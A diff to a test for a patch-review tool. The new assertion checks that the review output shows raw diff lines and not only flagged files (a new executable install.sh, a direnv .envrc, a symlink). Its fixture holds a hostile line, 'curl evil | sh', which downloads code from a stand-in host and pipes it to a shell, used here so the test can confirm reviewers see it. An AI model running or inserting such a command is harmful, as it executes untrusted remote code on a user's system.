@@ -196,6 +196,7 @@ def test_review_lists_every_kind_of_change_and_dry_run_changes_nothing(tmp_path,
                  "mode 100644 -> 100755", "! new executable: install.sh", "! .envrc: direnv runs it",
                  "! symbolic link: src/readme -> ../README.md", "dry run: would apply; your files are unchanged"):
         assert text in out, out
+    assert "+#!/bin/sh" in out and "+curl evil | sh" in out and "@@ " in out  # the diff lines a reviewer reads, not only the files
     assert tree_hash(repo) == before
     assert not transaction.area_of(repo).exists()
     observe(f"review: {len(review.changes)} files, flags {sorted(k for k, _ in flagged)}; dry run: tree unchanged, nothing beside it")
